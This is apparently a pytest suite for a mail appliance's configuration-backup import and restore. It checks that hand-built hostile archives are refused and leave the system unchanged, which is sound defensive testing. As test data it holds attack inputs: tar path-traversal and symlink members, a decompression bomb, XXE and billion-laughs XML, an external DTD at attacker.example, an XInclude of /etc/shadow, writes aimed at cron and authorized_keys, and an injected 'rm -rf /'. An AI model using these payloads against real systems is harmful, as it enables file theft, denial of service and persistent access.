"""Hostile and damaged configuration backups: each is refused with a clear reason, and the
appliance (its configuration and the stored backups) is byte-identical afterwards.

The archives are assembled by hand (magic, header, gzip, tar) so every field and every tar
member can be whatever an attacker likes.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import shutil
import struct
import tarfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from appliance.config import backupcheck, backupformat
from appliance.config.backupformat import BackupRejected, WrongPassphrase
from appliance.config.backuprestore import backup_restore, restore_plan
from appliance.config.configbackup import (
    MAX_BACKUP_BYTES,
    backup_create,
    backup_import,
    backup_load,
    backup_path,
)
from appliance.config.policy import PolicyObject, parse_policy_objects, render_policy_objects
from appliance.system.paths import layout
from tests.support.trees import tree_snapshot

POLICY = "files/etc/mailsec/cpe/mailsec_policyobjects1_1.xml"


def good_members() -> dict[str, bytes]:
    """The members of a genuine backup of the demo appliance (without the manifest)."""
    header = backup_create(created_by="admin")
    loaded = backup_load(header.name)
    backup_path(header.name).unlink()
    members = {"files/" + name: data for name, data in loaded.files.items()}
    members["appliance_settings.json"] = json.dumps(loaded.appliance_settings).encode()
    members["console.json"] = b"{}"
    return members


def manifest_for(members: dict[str, bytes], **changes: Any) -> bytes:
    manifest = {
        "format": 1,
        "firmware_version": "2.8.0.0",
        "config_format": "2.8.0",
        "created_at": "2024-05-01T10:00:00+00:00",
        "files": {
            name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
            for name, data in members.items()
        },
    }
    manifest.update(changes)
    return json.dumps(manifest).encode()


def tar_of(entries: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def file_entry(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def wrap(payload: bytes, **changes: Any) -> bytes:
    """A backup file around an (unencrypted) payload, the header's checksum matching."""
    header: dict[str, Any] = {
        "format": 1,
        "created_at": "2024-05-01T10:00:00+00:00",
        "firmware_version": "2.8.0.0",
        "config_format": "2.8.0",
        "hostname": "mail.example.com",
        "created_by": "mallory",
        "comment": "",
        "trigger": "manual",
        "encrypted": False,
        "payload_size": len(payload),
        "payload_sha256": hashlib.sha256(payload).hexdigest(),
    }
    header.update(changes)
    header_bytes = json.dumps(header).encode()
    return b"LMIBAK1\n" + struct.pack(">I", len(header_bytes)) + header_bytes + payload


def archive(
    members: dict[str, bytes],
    *,
    extra: list[tuple[tarfile.TarInfo, bytes | None]] = (),  # type: ignore[assignment]
    manifest: bytes | None = None,
    **header: Any,
) -> bytes:
    entries = [file_entry("manifest.json", manifest or manifest_for(members))]
    entries += [file_entry(name, data) for name, data in members.items()]
    entries += list(extra)
    return wrap(gzip.compress(tar_of(entries)), **header)


def with_objects(members: dict[str, bytes], *objects: PolicyObject) -> dict[str, bytes]:
    current = parse_policy_objects(members[POLICY])
    return {**members, POLICY: render_policy_objects([*current, *objects])}


def refuse(data: bytes, match: str) -> None:
    """Both ways in (upload, and a file already in the backups directory) refuse ``data``."""
    root = layout().root
    before = tree_snapshot(root)
    with pytest.raises(BackupRejected, match=match):
        backup_import(data, filename="evil.lmibak", uploaded_by="admin")
    assert tree_snapshot(root) == before
    directory = layout().config_backups_dir
    directory.mkdir(parents=True, exist_ok=True)
    planted = directory / "planted.lmibak"
    planted.write_bytes(data)
    before = tree_snapshot(root)
    with pytest.raises(BackupRejected, match=match):
        backup_restore(backup_load("planted.lmibak"))
    assert tree_snapshot(root) == before
    planted.unlink()


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One demo appliance per module: every test here only reads it or proves it unchanged."""
    from appliance.demo import init_demo

    root = tmp_path_factory.mktemp("demo-template") / "root"
    init_demo(root, messages=200, graph_days=1)
    return root


@pytest.fixture
def demo_appliance(appliance_root: Path, demo_template: Path) -> Path:
    """A copy of the module's demo appliance: 30 times cheaper than building one per test."""
    shutil.copytree(demo_template, appliance_root, symlinks=True, dirs_exist_ok=True)
    return appliance_root


@pytest.fixture
def members(demo_appliance: Path) -> dict[str, bytes]:
    return good_members()


def test_the_hand_built_archive_is_accepted(members: dict[str, bytes]) -> None:
    header = backup_import(archive(members), filename="ok.lmibak", uploaded_by="admin")
    assert backup_load(header.name).files["etc/HOSTNAME"] == members["files/etc/HOSTNAME"]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK\x03\x04 a zip file",
        b"\x89PNG\r\n\x1a\n",
        b"<?xml version='1.0'?><x/>",
        b"LMIBAK2\n\x00\x00\x00\x02{}",
    ],
)
def test_a_file_of_another_type_is_refused(demo_appliance: Path, data: bytes) -> None:
    refuse(data, "not an LMI configuration backup")


def test_a_truncated_backup_is_refused(members: dict[str, bytes]) -> None:
    data = archive(members)
    refuse(data[:-100], "truncated")
    refuse(data[:20], "truncated")
    refuse(data[:10], "truncated")


def test_trailing_data_is_refused(members: dict[str, bytes]) -> None:
    refuse(archive(members) + b"extra", "after its end")


def test_an_oversized_upload_is_refused(demo_appliance: Path) -> None:
    before = tree_snapshot(demo_appliance)
    data = io.BytesIO(b"LMIBAK1\n" + b"\0" * MAX_BACKUP_BYTES)
    with pytest.raises(BackupRejected, match="larger than 64 MiB"):
        backup_import(data, filename="big.lmibak", uploaded_by="admin")
    assert tree_snapshot(demo_appliance) == before


@pytest.mark.parametrize(
    "header_bytes",
    [b"{not json", b"[1, 2]", b'{"format": 1, "format": 1}', b"\xff\xfe"],
)
def test_a_malformed_header_is_refused(demo_appliance: Path, header_bytes: bytes) -> None:
    data = b"LMIBAK1\n" + struct.pack(">I", len(header_bytes)) + header_bytes
    refuse(data, "header")


def test_an_impossible_header_length_is_refused(demo_appliance: Path) -> None:
    refuse(b"LMIBAK1\n" + struct.pack(">I", 2**31) + b"{}", "impossible length")


def test_a_payload_that_does_not_match_its_checksum_is_refused(
    members: dict[str, bytes],
) -> None:
    data = bytearray(archive(members))
    data[-30] ^= 0x01
    refuse(bytes(data), "does not match its checksum")


def test_an_unknown_format_is_refused(members: dict[str, bytes]) -> None:
    refuse(archive(members, format=2), "format 2")


def test_a_backup_of_newer_firmware_is_refused(members: dict[str, bytes]) -> None:
    data = archive(
        members,
        manifest=manifest_for(members, firmware_version="2.9.0.0"),
        firmware_version="2.9.0.0",
    )
    refuse(data, "made by firmware 2.9.0.0; this appliance runs 2.8.0.0. Upgrade")


def link(name: str, kind: bytes, target: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info, None


@pytest.mark.parametrize(
    ("entry", "match"),
    [
        (link("files/etc/HOSTNAME2", tarfile.SYMTYPE, "/etc/shadow"), "a link"),
        (link("files/etc/mailsec/lists/x", tarfile.LNKTYPE, "files/etc/HOSTNAME"), "a link"),
        (link("files/etc/dev", tarfile.CHRTYPE), "a device"),
        (link("files/etc/fifo", tarfile.FIFOTYPE), "a device"),
        (link("files/etc/mailsec/cpe", tarfile.DIRTYPE), "a directory"),
        (file_entry("/etc/passwd", b"root::0:0::/:/bin/sh\n"), "an absolute path"),
        (file_entry("files/../../etc/passwd", b"x"), 'a path with ".."'),
        (file_entry("files/etc/mailsec/../../../x", b"x"), 'a path with ".."'),
        (file_entry("etc/passwd", b"x"), "not part of a configuration backup"),
        (file_entry("files//etc/x", b"x"), "not part of a configuration backup"),
    ],
)
def test_unsafe_tar_members_are_refused(
    members: dict[str, bytes], entry: tuple[tarfile.TarInfo, bytes | None], match: str
) -> None:
    refuse(archive(members, extra=[entry]), match)


@pytest.mark.parametrize(
    "name",
    [
        "files/var/lib/mailsec/msgstore/msgstore.db",
        "files/system/active/bin/mailsecd",
        "files/etc/firmware-release",
        "files/etc/mailsec/lists/not-referenced.txt",
        "files/etc/mailsec/cpe/nested/x.xml",
    ],
)
def test_files_no_policy_object_names_are_refused(members: dict[str, bytes], name: str) -> None:
    # A manifest that vouches for the extra file changes nothing: it is still refused.
    refuse(archive({**members, name: b"junk"}), "no \\$\\(FILE\\)|configuration directory")


def test_duplicate_members_are_refused(members: dict[str, bytes]) -> None:
    entry = file_entry("files/etc/HOSTNAME", b"evil.example\n")
    refuse(archive(members, extra=[entry]), "twice")


def test_a_member_over_the_size_limit_is_refused(
    members: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    big = {**members, "files/etc/sysconfig/network/ifcfg-big": b"#" * (1024 * 1024 + 1)}
    monkeypatch.setattr(backupformat, "MAX_MEMBER_BYTES", 1024 * 1024)
    refuse(archive(big), "too large")


def test_a_tar_bomb_is_refused(members: dict[str, bytes]) -> None:
    # 200 MiB of zeros behind a genuine tar header compress to about 200 KiB.
    info = tarfile.TarInfo("files/etc/sysconfig/network/ifcfg-bomb")
    info.size = 200 * 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    payload = compressor.compress(info.tobuf(tarfile.PAX_FORMAT))
    chunk = b"\0" * (4 * 1024 * 1024)
    for _ in range(50):
        payload += compressor.compress(chunk)
    payload += compressor.flush()
    assert len(payload) < 1024 * 1024
    refuse(wrap(payload), "archive bomb")


def test_garbage_instead_of_gzip_is_refused(demo_appliance: Path) -> None:
    refuse(wrap(b"this is not gzip at all"), "not a valid compressed archive")


def test_gzip_of_garbage_is_refused(demo_appliance: Path) -> None:
    refuse(wrap(gzip.compress(b"x" * 2000)), "not a valid archive|no manifest")


@pytest.mark.parametrize(
    ("change", "match"),
    [
        (lambda m: {**m, "files/etc/HOSTNAME": b"changed\n"}, "does not match its checksum"),
        (lambda m: {k: v for k, v in m.items() if k != "files/etc/HOSTNAME"}, "missing"),
    ],
)
def test_members_that_disagree_with_the_manifest_are_refused(
    members: dict[str, bytes], change: Callable[[dict[str, bytes]], dict[str, bytes]], match: str
) -> None:
    manifest = manifest_for(members)
    changed = change(members)
    refuse(archive(changed, manifest=manifest), match)


def test_a_file_the_manifest_omits_is_refused(members: dict[str, bytes]) -> None:
    manifest = manifest_for(members)
    extra = {**members, "files/etc/sysconfig/network/ifcfg-eth7": b"BOOTPROTO='dhcp'\n"}
    refuse(archive(extra, manifest=manifest), "manifest omits")


def test_a_manifest_that_disagrees_with_the_header_is_refused(members: dict[str, bytes]) -> None:
    manifest = manifest_for(members, firmware_version="2.7.0.0")
    refuse(archive(members, manifest=manifest), "disagree")


def test_a_missing_manifest_is_refused(members: dict[str, bytes]) -> None:
    entries = [file_entry(name, data) for name, data in members.items()]
    refuse(wrap(gzip.compress(tar_of(entries))), "no manifest")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE smtp [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<smtp version="1.0"><next_hop>&xxe;</next_hop></smtp>
"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<smtp version="1.0"><next_hop>&lol3;</next_hop></smtp>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE smtp SYSTEM "http://attacker.example/evil.dtd">
<smtp version="1.0"/>
"""


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (XXE, "DOCTYPE or entities"),
        (LAUGHS, "DOCTYPE or entities"),
        (EXTERNAL_DTD, "DOCTYPE or entities"),
        (b"<smtp><next_hop>unclosed</smtp>", "not well-formed"),
        (b"\x00\x01binary", "not well-formed"),
    ],
)
def test_hostile_or_broken_xml_is_refused(
    members: dict[str, bytes], content: bytes, match: str
) -> None:
    refuse(archive({**members, "files/etc/mailsec/cpe/mailsec_smtp1_0.xml": content}), match)


def test_a_file_macro_outside_the_root_is_refused(members: dict[str, bytes]) -> None:
    evil = PolicyObject("evil", "Evil list", "emailaddresslist", "$(FILE/../../etc/passwd)")
    refuse(archive(with_objects(members, evil)), "outside the appliance")


def test_a_file_macro_on_a_managed_file_is_refused(members: dict[str, bytes]) -> None:
    evil = PolicyObject("evil", "Evil list", "emailaddresslist", "$(FILE/etc/firmware-release)")
    changed = with_objects(members, evil)
    changed["files/etc/firmware-release"] = b"FIRMWARE_VERSION=9.9.9.9\n"
    refuse(archive(changed), "list files only under")


@pytest.mark.parametrize(
    "target",
    [
        "/etc/cron.d/evil",
        "/root/.ssh/authorized_keys",
        "/etc/passwd",
        "/lib/x.so",
        "/var/lib/dhcpcd/dhcpcd-eth0.info",
        "/etc/mailsec/license.json",
        "/etc/mailsec/listsX/evil",
        "/etc/mailsec/lists",
    ],
)
def test_a_file_macro_outside_the_list_directories_writes_nothing(
    members: dict[str, bytes], target: str
) -> None:
    """The allow-list: a backup carries list files for /etc/mailsec/lists/ only."""
    evil = PolicyObject("evil", "Evil list", "emailaddresslist", f"$(FILE{target})")
    changed = with_objects(members, evil)
    changed["files" + target] = b"ssh-ed25519 AAAA attacker\n"
    refuse(archive(changed), f"'Evil list' reads {target}, and the backup carries that file")


def test_a_file_macro_outside_the_lists_without_its_file_is_restored_as_an_object(
    members: dict[str, bytes],
) -> None:
    """An object may read any file of the appliance; only carrying one is refused."""
    reader = PolicyObject("reader", "Host list", "domainlist", "$(FILE/etc/hosts.allow)")
    header = backup_import(
        archive(with_objects(members, reader)), filename="x", uploaded_by="admin"
    )
    loaded = backup_load(header.name)
    backup_restore(loaded, confirmed=restore_plan(loaded).writes)
    assert not (layout().etc_dir / "hosts.allow").exists()
    assert "Host list" in layout().policy_objects_xml.read_text()


def test_a_list_file_through_a_symlink_out_of_the_lists_is_refused(
    members: dict[str, bytes],
) -> None:
    os.symlink("../../cron.d", layout().lists_dir / "cron")
    (layout().etc_dir / "cron.d").mkdir()
    evil = PolicyObject("evil", "Evil list", "emailaddresslist", "$(FILE/etc/mailsec/lists/cron/x)")
    changed = with_objects(members, evil)
    changed["files/etc/mailsec/lists/cron/x"] = b"* * * * * root sh -c owned\n"
    refuse(archive(changed), "outside the list directories")
    assert list((layout().etc_dir / "cron.d").iterdir()) == []


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (b"\x7fELF\x02\x01\x01\x00binary", "control character on line 1"),
        (b"ok@example.com\n\xff\xfe\n", "not UTF-8 text"),
        (b"a@example.com\nb@example.com\x1b[2J\n", "control character on line 2"),
        (b"a" * (backupcheck.MAX_LIST_BYTES + 1), "larger than 8 MiB"),
    ],
)
def test_a_list_file_that_is_not_bounded_text_is_refused(
    members: dict[str, bytes], content: bytes, match: str
) -> None:
    name = "files/etc/mailsec/lists/blocked_senders.txt"
    assert name in members
    refuse(archive({**members, name: content}), f"'Blocked senders' reads .*{match}")


def test_a_list_file_with_tabs_and_crlf_line_ends_is_accepted(members: dict[str, bytes]) -> None:
    name = "files/etc/mailsec/lists/blocked_senders.txt"
    content = "a@example.com\t# tab\r\nb@exämple.com\r\n".encode()
    header = backup_import(archive({**members, name: content}), filename="x", uploaded_by="a")
    assert backup_load(header.name).files[name.removeprefix("files/")] == content


def test_a_list_file_on_a_special_file_is_refused(members: dict[str, bytes]) -> None:
    target = layout().lists_dir / "blocked_senders.txt"
    target.unlink()
    os.mkfifo(target)
    name = "files/etc/mailsec/lists/blocked_senders.txt"
    refuse(archive({**members, name: b"new@example.com\n"}), "a device or special file")


def test_a_running_object_outside_the_lists_is_not_backed_up(demo_appliance: Path) -> None:
    """What a restore would refuse is not put in a backup either."""
    from appliance.config.store import list_policy_objects, write_policy_objects

    (demo_appliance / "etc" / "extra.txt").write_text("x@example.com\n")
    objects = list_policy_objects(demo_appliance)
    reader = PolicyObject("reader", "Extra", "emailaddresslist", "$(FILE/etc/extra.txt)")
    write_policy_objects([*objects, reader], demo_appliance)
    loaded = backup_load(backup_create(created_by="admin").name)
    assert "etc/extra.txt" not in loaded.files
    assert "etc/mailsec/lists/blocked_senders.txt" in loaded.files
    assert loaded.verified


def test_a_file_macro_through_a_symlink_out_of_the_root_is_refused(
    members: dict[str, bytes], tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, layout().etc_dir / "mailsec" / "escape")
    evil = PolicyObject("evil", "Evil list", "emailaddresslist", "$(FILE/etc/mailsec/escape/x)")
    changed = with_objects(members, evil)
    changed["files/etc/mailsec/escape/x"] = b"owned\n"
    refuse(archive(changed), "outside the appliance")
    assert list(outside.iterdir()) == []


def test_a_file_macro_through_a_symlink_onto_the_firmware_is_refused(
    members: dict[str, bytes],
) -> None:
    os.symlink("../../system", layout().etc_dir / "mailsec" / "sys")
    evil = PolicyObject("evil", "Evil list", "emailaddresslist", "$(FILE/etc/mailsec/sys/x)")
    changed = with_objects(members, evil)
    changed["files/etc/mailsec/sys/x"] = b"owned\n"
    refuse(archive(changed), "list files only under")


def test_a_config_file_redirected_by_a_symlink_is_refused(members: dict[str, bytes]) -> None:
    hostname = layout().hostname_file
    hostname.unlink()
    os.symlink("firmware-release", hostname)
    refuse(archive(members), "redirected")


def test_invalid_retention_is_refused(members: dict[str, bytes]) -> None:
    for value in (0, -1, 99999, "30", True):
        settings = json.dumps({"store_retention": {"Spam quarantine": value}}).encode()
        refuse(archive({**members, "appliance_settings.json": settings}), "retention")


def test_console_settings_must_be_an_object(members: dict[str, bytes]) -> None:
    refuse(archive({**members, "console.json": b"[1]"}), "console settings")


def test_an_archive_without_configuration_is_refused(members: dict[str, bytes]) -> None:
    bare = {k: v for k, v in members.items() if not k.startswith("files/etc/mailsec/cpe/")}
    refuse(archive(bare), "no configuration files")


def test_a_tampered_encrypted_header_fails_authentication(demo_appliance: Path) -> None:
    header = backup_create(created_by="admin", comment="original", passphrase="passphrase!")
    path = backup_path(header.name)
    data = path.read_bytes()
    tampered = data.replace(b'"comment":"original"', b'"comment":"tampered"')
    assert tampered != data
    path.write_bytes(tampered)
    before = tree_snapshot(demo_appliance)
    with pytest.raises(WrongPassphrase, match="or the backup was altered"):
        backup_load(header.name, passphrase="passphrase!")
    assert tree_snapshot(demo_appliance) == before


def test_a_tampered_ciphertext_fails_authentication(demo_appliance: Path) -> None:
    header = backup_create(created_by="admin", passphrase="passphrase!")
    path = backup_path(header.name)
    data = bytearray(path.read_bytes())
    data[-5] ^= 0x80
    path.write_bytes(bytes(data))
    with pytest.raises(WrongPassphrase):
        backup_load(header.name, passphrase="passphrase!")


def test_hostile_kdf_parameters_are_refused_before_deriving(demo_appliance: Path) -> None:
    header = {
        "cipher": "AES-256-GCM",
        "encrypted": True,
        "nonce": base64.b64encode(b"\0" * 12).decode(),
        "kdf": {"name": "scrypt", "n": 2**30, "r": 8, "p": 1, "salt": "AAAAAAAAAAAAAAAAAAAAAA=="},
    }
    refuse(wrap(b"\0" * 64, payload_size=64, **header), "parameters this console does not use")


# --- Values the pages show: host name, network files, names, configuration elements ---------

HOSTNAME = "files/etc/HOSTNAME"
NETWORK = "files/etc/sysconfig/network/"
SMTP = "files/etc/mailsec/cpe/mailsec_smtp1_0.xml"


@pytest.mark.parametrize(
    ("relay", "match"),
    [
        (b"0.0.0.0/0", "too wide"),
        (b"::/0", "too wide"),
        (b"192.0.2.0/24 not-a-network", "not an IP network"),
    ],
)
def test_smtp_settings_that_would_open_the_relay_are_refused(
    members: dict[str, bytes], relay: bytes, match: str
) -> None:
    content = members[SMTP].replace(b"<relay_networks></relay_networks>", b"")
    content = content.replace(b"</smtp>", b"<relay_networks>" + relay + b"</relay_networks></smtp>")
    refuse(archive({**members, SMTP: content}), rf"SMTP settings are refused: .*{match}")


def test_a_host_name_that_is_not_utf8_is_refused(members: dict[str, bytes]) -> None:
    refuse(archive({**members, HOSTNAME: b"\xffmailsec01\n"}), r"host name \(etc/HOSTNAME\)")


@pytest.mark.parametrize(
    "content",
    [
        b"-bad-\n",
        b"mail sec01\n",
        b"mail\x00sec01\n",
        b"mail..example.com\n",
        b"mail_sec.example.com\n",
        b"\n",
        b"a" * 64 + b".example.com\n",
        b".".join([b"a" * 63] * 4) + b"\n",  # 255 characters
        b"mailsec01\nsecond.example.com\n",
    ],
)
def test_a_host_name_that_is_not_rfc_1123_is_refused(
    members: dict[str, bytes], content: bytes
) -> None:
    refuse(archive({**members, HOSTNAME: content}), "is not a valid host name")


def test_the_longest_valid_host_name_is_accepted(members: dict[str, bytes]) -> None:
    name = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 61]).encode()  # 253 characters
    header = backup_import(
        archive({**members, HOSTNAME: name + b"\n"}), filename="ok", uploaded_by="admin"
    )
    loaded = backup_load(header.name)
    backup_restore(loaded, confirmed=restore_plan(loaded).writes)  # hand-built: unverified
    assert layout().hostname_file.read_bytes() == name + b"\n"


@pytest.mark.parametrize(
    ("name", "match"),
    [
        ("ifcfg-../../x", 'a path with ".."'),
        ("ifcfg-..", "not an interface configuration"),
        ("ifcfg-.eth0", "not an interface configuration"),
        ("ifcfg-eth0;reboot", "not an interface configuration"),
        ("ifcfg-" + "e" * 65, "not an interface configuration"),
        ("ifcfg-eth\u00e9", "not an interface configuration"),
        ("notes.txt", "not an interface configuration"),
    ],
)
def test_a_network_file_of_an_unsafe_name_is_refused(
    members: dict[str, bytes], name: str, match: str
) -> None:
    refuse(archive({**members, NETWORK + name: b"BOOTPROTO='dhcp'\n"}), match)


@pytest.mark.parametrize(
    ("name", "content", "match"),
    [
        ("ifcfg-eth0", b"BOOTPROTO='dhcp'\nNAME='eth0\x00'\n", "control character on line 2"),
        ("ifcfg-eth0", b"BOOTPROTO='dhcp'\x1b[2J\n", "control character on line 1"),
        ("ifcfg-eth0", b"BOOTPROTO='dhcp'\fNAME='x'\n", "control character on line 1"),
        ("ifcfg-eth0", b"BOOTPROTO='dhcp'\r\n", "control character on line 1"),
        ("ifcfg-eth0", b"NAME='Ethernet \xc3\xa9'\n", "not ASCII text"),
        ("ifcfg-eth0", b"BOOTPROTO='dhcp'\nrm -rf /\n", "line 2, which is not KEY=value"),
        ("ifcfg-eth1", b"BOOTPROTO='static'\nIPADDR='999.0.0.1/24'\n", "invalid address"),
        ("ifcfg-eth1", b"BOOTPROTO='bogus'\n", "unsupported BOOTPROTO"),
        ("routes", b"default 192.0.2.1 - -\x00\n", "control character on line 1"),
    ],
)
def test_a_network_file_with_a_value_the_console_cannot_use_is_refused(
    members: dict[str, bytes], name: str, content: bytes, match: str
) -> None:
    refuse(archive({**members, NETWORK + name: content}), f"network file {name}.*{match}")


@pytest.mark.parametrize(
    "name",
    ["Spam\x1bquarantine", "Spam\nquarantine", "Spam\u2028quarantine", "", "   ", "x" * 201],
)
def test_a_message_store_name_that_is_not_printable_text_is_refused(
    members: dict[str, bytes], name: str
) -> None:
    settings = json.dumps({"store_retention": {name: 30}}).encode()
    refuse(archive({**members, "appliance_settings.json": settings}), "message store")


@pytest.mark.parametrize("name", ["Evil\tlist", "Evil\x7flist", "Evil\u2028list", "x" * 201, " "])
def test_a_policy_object_name_that_is_not_printable_text_is_refused(
    members: dict[str, bytes], name: str
) -> None:
    evil = PolicyObject("evil", name, "keywordlist", "viagra")
    refuse(archive(with_objects(members, evil)), "policy object")


XINCLUDE = b"""<?xml version="1.0" encoding="UTF-8"?>
<policyobjects version="1.1" xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file:///etc/shadow" parse="text"/>
</policyobjects>
"""


def test_a_policy_xml_with_an_xinclude_is_refused(members: dict[str, bytes]) -> None:
    refuse(archive({**members, POLICY: XINCLUDE}), "element <xi:include .*XInclude")


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (
            b'<smtp version="1.0"><listen_port>25</listen_port><script>x</script></smtp>',
            "element <script>",
        ),
        (
            b'<smtp version="1.0" xmlns:e="urn:evil"><e:listen_port>25</e:listen_port></smtp>',
            "element <e:listen_port \\(namespace urn:evil\\)>",
        ),
        (b'<policyobjects version="1.1"/>', "starts with the element <policyobjects>"),
    ],
)
def test_a_configuration_xml_with_an_unknown_element_is_refused(
    members: dict[str, bytes], content: bytes, match: str
) -> None:
    refuse(archive({**members, SMTP: content}), match)


def test_a_configuration_file_this_console_does_not_know_is_refused(
    members: dict[str, bytes],
) -> None:
    extra = {**members, "files/etc/mailsec/cpe/mailsec_extra1_0.xml": b"<extra/>"}
    refuse(archive(extra), "mailsec_extra1_0.xml', which this console does not know")


def test_a_backup_of_the_2_8_1_format_passes_the_element_check(demo_appliance: Path) -> None:
    configconvert = pytest.importorskip("appliance.config.configconvert")
    configconvert.config_convert()
    before = tree_snapshot(demo_appliance / "etc")
    loaded = backup_load(backup_create(created_by="admin").name)
    assert "etc/mailsec/cpe/mailsec_config2_0.xml" in loaded.files
    backup_restore(loaded)
    assert tree_snapshot(demo_appliance / "etc") == before


def test_a_sles_10_hardware_bound_interface_file_is_restored(members: dict[str, bytes]) -> None:
    """SLES 10 (the 2.8.0 firmware's system) names interface files by MAC or bus address."""
    name = "ifcfg-eth-id-00:11:22:33:44:55"
    content = b"BOOTPROTO='static'\nIPADDR='192.0.2.10/24'\n"
    header = backup_import(
        archive({**members, NETWORK + name: content}), filename="sles10", uploaded_by="admin"
    )
    loaded = backup_load(header.name)
    backup_restore(loaded, confirmed=restore_plan(loaded).writes)  # hand-built: unverified
    assert (layout().network_dir / name).read_bytes() == content
